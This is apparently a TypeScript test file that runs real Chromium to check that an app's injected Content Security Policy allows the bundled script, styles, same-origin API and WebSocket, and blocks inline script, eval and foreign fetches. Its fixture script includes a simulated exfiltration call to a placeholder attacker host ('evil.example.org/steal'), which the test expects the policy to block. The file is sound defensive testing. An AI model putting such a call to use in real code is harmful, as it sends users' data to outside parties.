import { existsSync } from 'node:fs';
import { createServer } from 'node:http';
import type { Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { CHROMIUM_PATH, launchBrowser } from '../e2e/support/browser.js';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildContentSecurityPolicy } from '../src/main/security.js';

/**
 * The CSP main injects, enforced by real Chromium on a page shaped like the
 * built web app: bundled module script and stylesheet run, inline script and
 * foreign connections are refused, and Chromium finds nothing to complain
 * about in the policy's syntax.
 */
const chromiumPath = CHROMIUM_PATH;

const PAGE = `<!doctype html><html><head><title>csp</title>
<link rel="stylesheet" href="/app.css"><script type="module" src="/app.js"></script>
<script>window.inlineRan = true;</script></head><body><p>app</p></body></html>`;

const APP_JS = `
window.violations = [];
document.addEventListener('securitypolicyviolation', (e) =>
  window.violations.push(e.violatedDirective + ' ' + e.blockedURI));
window.bundleRan = true;
window.results = {};
fetch('/api').then((r) => (window.results.sameOrigin = r.status)).catch(() => (window.results.sameOrigin = 'blocked'));
fetch('https://evil.example.org/steal')
  .then(() => (window.results.foreign = 'sent'))
  .catch(() => (window.results.foreign = 'blocked'));
try { eval('1'); window.results.eval = 'ran'; } catch { window.results.eval = 'blocked'; }
const socket = new WebSocket('ws://' + location.host + '/socket.io/');
socket.onerror = socket.onopen = () => (window.results.socketSettled = true);
`;

let browser: Browser | undefined;
let server: Server | undefined;
let origin = '';

describe.skipIf(!existsSync(chromiumPath))('injected CSP in Chromium', () => {
  beforeAll(async () => {
    const routes: Record<string, readonly [type: string, body: string]> = {
      '/app.js': ['text/javascript', APP_JS],
      '/app.css': ['text/css', 'p { color: rgb(1, 2, 3); }'],
      '/api': ['application/json', '{}'],
    };
    server = createServer((request, response) => {
      const [type, body] = routes[request.url ?? ''] ?? ['text/html', PAGE];
      response.writeHead(200, { 'content-type': type, 'content-security-policy': buildContentSecurityPolicy(origin) });
      response.end(body);
    });
    await new Promise<void>((resolve) => server!.listen(0, '127.0.0.1', resolve));
    origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    ({ browser } = await launchBrowser());
  }, 60_000);

  afterAll(async () => {
    await browser?.close();
    server?.close();
  });

  it('runs the bundled app and its WebSocket, blocks inline script, eval and foreign fetches', async () => {
    const page = await browser!.newPage();
    const consoleMessages: string[] = [];
    page.on('console', (message) => consoleMessages.push(message.text()));
    await page.goto(`${origin}/`);
    const results = (): Promise<Record<string, unknown>> =>
      page.evaluate(() => (window as unknown as { results: Record<string, unknown> }).results);
    await expect.poll(results).toMatchObject({
      sameOrigin: 200,
      foreign: 'blocked',
      eval: 'blocked',
      socketSettled: true,
    });
    // socket.io's WebSocket to the server origin is allowed; the foreign fetch is not.
    const violations = await page.evaluate(() => (window as unknown as { violations: string[] }).violations);
    expect(violations.filter((entry) => entry.includes('ws://'))).toEqual([]);
    expect(violations).toContainEqual(expect.stringContaining('evil.example.org'));
    const state = await page.evaluate(() => {
      const w = window as unknown as { bundleRan?: boolean; inlineRan?: boolean };
      const color = getComputedStyle(document.querySelector('p')!).color;
      return { bundleRan: w.bundleRan, inlineRan: w.inlineRan, color };
    });
    expect(state).toEqual({ bundleRan: true, inlineRan: undefined, color: 'rgb(1, 2, 3)' });
    // Chromium reports unknown directives or bad sources on the console.
    expect(consoleMessages.filter((text) => /unrecognized|invalid|ignored/i.test(text))).toEqual([]);
    await page.close();
  });
});
